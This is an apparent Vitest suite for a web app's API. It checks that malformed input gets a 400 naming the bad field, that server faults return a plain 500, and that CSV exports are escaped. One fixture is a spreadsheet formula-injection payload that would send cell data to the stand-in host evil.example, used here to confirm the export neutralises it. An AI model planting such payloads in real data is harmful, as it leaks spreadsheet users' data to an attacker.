import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '@throughline/db';
import { createTestDatabase, insertJourney, insertMember, insertOrganisation, insertTeam } from '@throughline/db/testing';
import { hashPassword } from '../auth/password.ts';
import { createInnerContext, recordingCookies } from '../context.ts';
import { createCaller } from '../router.ts';
import { createApp } from './app.ts';

/*
 * Bad input, as a caller sends it over HTTP: every value that used to pass validation and then
 * fail in the database or in a computed figure is refused with a 400 naming its field, and
 * nothing is stored. A failure of the server's own reaches the caller as a plain 500.
 */

const PASSWORD = 'correct horse battery staple';
const NUL = 'a\u0000b';
const HALF = 'a\uD800b';
let database: Database;
let server: Server;
let base: string;
let cookie: string;
let bearer: string;
const logged: string[] = [];
const ids = { org: '', team: '', journey: '', steps: [] as string[], kpi: '', kpiVersion: 0 };

const kpiFields = (journeyId: string, team: string) => ({
  key: 'claim.nps',
  name: 'Claim NPS',
  description: '',
  unit: 'points',
  kind: 'nps' as const,
  source: { stream: 'survey' as const, instrument: 'nps' as const },
  scope: { level: 'journey' as const, journeyId },
  ownerTeamId: team,
  direction: 'higher_is_better' as const,
  target: 30,
  threshold: null,
  grain: 'month' as const,
  schedule: '0 3 * * *',
  valuePerPoint: 12_000,
});

beforeAll(async () => {
  database = await createTestDatabase();
  const { db } = database;
  ids.org = (await insertOrganisation(db, 'harbour', 'Harbour Home')).id;
  await insertMember(db, ids.org, { email: 'lead@a.example', passwordHash: await hashPassword(PASSWORD), role: 'admin' });
  // Names a spreadsheet would run as formulas: the export must show them as text.
  ids.team = await insertTeam(db, ids.org, '@SUM(1+1)');
  const journey = await insertJourney(db, ids.org, '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', { accountableTeamId: ids.team });
  ids.journey = journey.id;
  ids.steps = journey.stepIds;
  const actor = await createCaller(createInnerContext({ db, cookies: recordingCookies(null) })).auth.signIn({
    email: 'lead@a.example',
    password: PASSWORD,
  });
  const lead = createCaller(createInnerContext({ db, actor }));
  const kpi = await lead.kpi.create(kpiFields(ids.journey, ids.team));
  // 200 answers in October at NPS −20 (20% promoters, 40% detractors): a negative figure in the export.
  await db
    .insertInto('survey_response')
    .values(
      Array.from({ length: 200 }, (_, i) => ({
        organisation_id: ids.org,
        source: 's',
        external_id: `r${i}`,
        instrument: 'nps' as const,
        score: i % 5 < 1 ? 10 : i % 5 < 3 ? 8 : 4,
        journey_id: ids.journey,
        occurred_at: `2026-10-${String(1 + (i % 28)).padStart(2, '0')}T10:00:00Z`,
      })),
    )
    .execute();
  await lead.kpi.recompute({ kpiId: kpi.id });
  ids.kpi = kpi.id;
  ids.kpiVersion = kpi.version;
  bearer = (await lead.token.create({ name: 'Survey tool', scopes: ['ingest:write'], expiresInDays: 90 })).token;

  const app = createApp({ db, log: (m) => void logged.push(m) });
  server = await new Promise<Server>((resolve) => {
    const s = app.listen(0, '127.0.0.1', () => resolve(s));
  });
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const res = await fetch(`${base}/trpc/auth.signIn`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email: 'lead@a.example', password: PASSWORD }),
  });
  cookie = res.headers.get('set-cookie')!.split(';')[0]!;
});
afterAll(async () => {
  server.close();
  await database.close();
});

interface Answer {
  status: number;
  message: string | undefined;
  paths: string[];
  issues: { path: string; message: string }[];
  text: string;
}

async function call(path: string, input: unknown, opts: { method?: 'GET' | 'POST'; token?: string } = {}): Promise<Answer> {
  const headers: Record<string, string> = opts.token ? { authorization: `Bearer ${opts.token}` } : { cookie };
  const res =
    opts.method === 'GET'
      ? await fetch(`${base}/trpc/${path}?input=${encodeURIComponent(JSON.stringify(input))}`, { headers })
      : await fetch(`${base}/trpc/${path}`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', ...headers },
          body: JSON.stringify(input),
        });
  const text = await res.text();
  const body = JSON.parse(text) as { error?: { message: string; data: { issues: { path: string; message: string }[] } } };
  const issues = body.error?.data.issues ?? [];
  return { status: res.status, message: body.error?.message, paths: issues.map((i) => i.path), issues, text };
}

async function count(
  table: 'team' | 'journey' | 'system' | 'insight' | 'survey_response' | 'operational_event' | 'failure_point' | 'outcome' | 'initiative',
): Promise<number> {
  return (
    await sql<{ n: number }>`SELECT count(*)::int AS n FROM ${sql.table(table)} WHERE organisation_id = ${ids.org}`.execute(database.db)
  ).rows[0]!.n;
}

const response = (i: number) => ({
  source: 'qualtrics',
  externalId: `q-${i}`,
  instrument: 'nps',
  score: i % 11,
  customerId: `C-${i}`,
  journeyId: null,
  stepId: null,
  channel: 'web',
  segment: null,
  verbatim: 'Quick and kind.',
  occurredAt: '2026-11-01T10:00:00Z',
});

describe('text with a NUL or half a surrogate pair', () => {
  it.each([
    ['team.create', 'team', { name: NUL, purpose: '', capabilities: [], annualBudget: 0, spendingAuthority: 0 }, 'name'],
    ['team.create', 'team', { name: 'Claims', purpose: HALF, capabilities: [], annualBudget: 0, spendingAuthority: 0 }, 'purpose'],
    ['journey.create', 'journey', { name: NUL, description: '', personas: [] }, 'name'],
    ['journey.create', 'journey', { name: 'Renew', description: '', personas: ['Owner', HALF] }, 'personas.1'],
    ['system.create', 'system', { name: 'Claims hub', description: NUL, ownerTeamId: null }, 'description'],
    [
      'insight.create',
      'insight',
      { kind: 'finding', title: 'Callbacks', body: NUL, source: 'interview', observedOn: '2026-11-01', confidence: 'high' },
      'body',
    ],
  ] as const)('%s is refused with a 400 naming %s’s field, and nothing is stored', async (procedure, table, input, path) => {
    const before = await count(table);
    const answer = await call(procedure, input);
    expect(answer.status).toBe(400);
    expect(answer.paths).toEqual([path]);
    expect(answer.issues[0]!.message).toMatch(/^must not contain (a NUL character|an unpaired UTF-16 surrogate)/);
    expect(await count(table)).toBe(before);
  });

  it('in one verbatim of a 5,000-row ingest batch is refused by row and field, and none of the batch is stored', async () => {
    const responses = Array.from({ length: 5_000 }, (_, i) => response(i));
    responses[1234] = { ...responses[1234]!, verbatim: NUL };
    const answer = await call('ingest.surveyResponses', { responses }, { token: bearer });
    expect(answer.status).toBe(400);
    expect(answer.issues).toEqual([{ path: 'responses.1234.verbatim', message: 'must not contain a NUL character (\\u0000)' }]);
    expect(await count('survey_response')).toBe(200);
  });

  it('in an event’s attribute is refused by row and field', async () => {
    const event = {
      source: 'crm',
      externalId: 'e-1',
      type: 'contact',
      value: 1,
      customerId: null,
      journeyId: null,
      stepId: null,
      attributes: { queue: NUL },
      occurredAt: '2026-11-01T10:00:00Z',
    };
    const answer = await call('ingest.operationalEvents', { events: [event] }, { token: bearer });
    expect(answer.status).toBe(400);
    expect(answer.paths).toEqual(['events.0.attributes.queue']);
    expect(await count('operational_event')).toBe(0);
  });

  it('in a search is refused with a 400 naming the query', async () => {
    expect(await call('insight.search', { query: NUL }, { method: 'GET' })).toMatchObject({ status: 400, paths: ['query'] });
    expect(await call('audit.list', { action: NUL }, { method: 'GET' })).toMatchObject({ status: 400, paths: ['action'] });
  });
});

describe('dates outside what PostgreSQL holds, or any sane year', () => {
  it.each(['+275760-09-13T00:00:00Z', '-271821-04-20T00:00:00Z', '0000-01-01T00:00:00Z'])(
    'an ingested row dated %s is refused by row and field',
    async (occurredAt) => {
      const answer = await call(
        'ingest.surveyResponses',
        { responses: [response(9_000), { ...response(9_001), occurredAt }] },
        { token: bearer },
      );
      expect(answer.status).toBe(400);
      expect(answer.issues).toEqual([{ path: 'responses.1.occurredAt', message: 'must be between 1900-01-01 and 2999-12-31' }]);
      expect(await count('survey_response')).toBe(200);
    },
  );

  it('an outcome due in year 0, an initiative implemented in year 1 and a scorecard for year 9999 are refused by field', async () => {
    const outcome = { journeyId: ids.journey, kpiId: ids.kpi, title: 'Fewer chasers', baseline: 10, target: 40, byDate: '0000-01-01' };
    expect(await call('outcome.create', outcome)).toMatchObject({ status: 400, paths: ['byDate'] });
    const initiative = { title: 'Call back', journeyId: ids.journey, teamId: ids.team, implementedOn: '0001-01-01' };
    expect(await call('initiative.create', initiative)).toMatchObject({ status: 400, paths: ['implementedOn'] });
    expect(await call('scorecard.get', { period: '9999-12-01' }, { method: 'GET' })).toMatchObject({ status: 400, paths: ['period'] });
    expect(await count('outcome')).toBe(0);
    expect(await count('initiative')).toBe(0);
  });
});

describe('numbers beyond their column or beyond a finite figure', () => {
  it('a failure point costing a trillion (the old schema’s own maximum) and a team budget as large are refused by field', async () => {
    const failurePoint = {
      journeyId: ids.journey,
      stepId: ids.steps[0]!,
      title: 'Chasing',
      description: '',
      expectation: 5,
      capability: 2,
      frequency: 10,
      frequencyPeriod: 'month',
      costBasis: 'contact',
      unitCost: 1e12,
    };
    expect(await call('failurePoint.create', failurePoint)).toMatchObject({ status: 400, paths: ['unitCost'] });
    expect(
      await call('team.create', { name: 'Sales', purpose: '', capabilities: [], annualBudget: 1e12, spendingAuthority: 0 }),
    ).toMatchObject({ status: 400, paths: ['annualBudget'] });
    expect(
      await call('team.update', {
        id: ids.team,
        version: 1e10,
        name: 'Claims',
        purpose: '',
        capabilities: [],
        annualBudget: 0,
        spendingAuthority: 0,
      }),
    ).toMatchObject({ status: 400, paths: ['version'] });
    expect(await count('failure_point')).toBe(0);
  });

  it('a KPI target or value per point of 1e308 is refused by field, the KPI is unchanged and the scorecard page, CSV and PDF still answer', async () => {
    const update = { ...kpiFields(ids.journey, ids.team), id: ids.kpi, version: ids.kpiVersion };
    expect(await call('kpi.update', { ...update, target: 1e308 })).toMatchObject({ status: 400, paths: ['target'] });
    expect(await call('kpi.update', { ...update, valuePerPoint: 1e308 })).toMatchObject({ status: 400, paths: ['valuePerPoint'] });
    expect(await call('kpi.update', { ...update, threshold: -1e308 })).toMatchObject({ status: 400, paths: ['threshold'] });
    const stored = await database.db
      .selectFrom('kpi')
      .select(['target', 'value_per_point', 'version'])
      .where('id', '=', ids.kpi)
      .executeTakeFirstOrThrow();
    expect(stored).toEqual({ target: 30, value_per_point: 12_000, version: ids.kpiVersion });
    expect((await call('scorecard.get', { period: '2026-10-01' }, { method: 'GET' })).status).toBe(200);
    for (const format of ['csv', 'pdf'])
      expect((await fetch(`${base}/export/scorecard.${format}?period=2026-10-01`, { headers: { cookie } })).status).toBe(200);
  });
});

describe('a failure of the server’s own', () => {
  it('reaches the caller as a plain 500, its internal paths only in the log', async () => {
    // A value stored before the bounds existed: the scorecard's value at stake is Infinity, which its output schema refuses.
    await sql`UPDATE kpi SET value_per_point = 1e308 WHERE id = ${ids.kpi}`.execute(database.db);
    try {
      logged.length = 0;
      const page = await call('scorecard.get', { period: '2026-10-01' }, { method: 'GET' });
      expect(page).toMatchObject({ status: 500, message: 'Something went wrong on our side. It has been logged.', issues: [] });
      expect(page.text).not.toMatch(/valueAtStake|journeys|Output validation/);
      for (const format of ['csv', 'pdf']) {
        const res = await fetch(`${base}/export/scorecard.${format}?period=2026-10-01`, { headers: { cookie } });
        expect(res.status).toBe(500);
        expect(await res.json()).toEqual({
          error: { message: 'Something went wrong on our side. It has been logged.', code: 'INTERNAL_SERVER_ERROR' },
        });
      }
      expect(logged).toHaveLength(3);
      for (const line of logged) expect(line).toMatch(/"journeys",\s*0,\s*"kpis",\s*0,\s*"valueAtStake"/);
    } finally {
      await sql`UPDATE kpi SET value_per_point = 12000 WHERE id = ${ids.kpi}`.execute(database.db);
    }
  });
});

describe('the scorecard CSV', () => {
  it('shows names a spreadsheet would run as formulas as text, and keeps negative numbers numbers', async () => {
    const res = await fetch(`${base}/export/scorecard.csv?period=2026-10-01`, { headers: { cookie } });
    expect(res.status).toBe(200);
    const rows = parse<Record<string, string>>(await res.text(), { columns: true });
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      journey: `'=HYPERLINK("http://evil.example/?leak="&A1,"Open")`,
      owner: `'@SUM(1+1)`,
      kpi: 'Claim NPS',
      value: '-20',
      value_at_stake: '600000',
    });
  });
});
